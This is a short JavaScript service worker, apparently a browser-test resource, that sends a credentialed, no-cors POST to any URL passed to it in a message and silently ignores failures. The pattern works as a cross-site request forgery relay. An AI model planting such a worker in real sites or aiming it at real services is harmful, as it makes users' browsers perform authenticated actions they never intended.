"use strict";
self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", (event) => event.waitUntil(self.clients.claim()));
self.addEventListener("message", (event) => {
  fetch(event.data, { method: "POST", mode: "no-cors", credentials: "include", body: "a=b" }).catch(() => {});
});
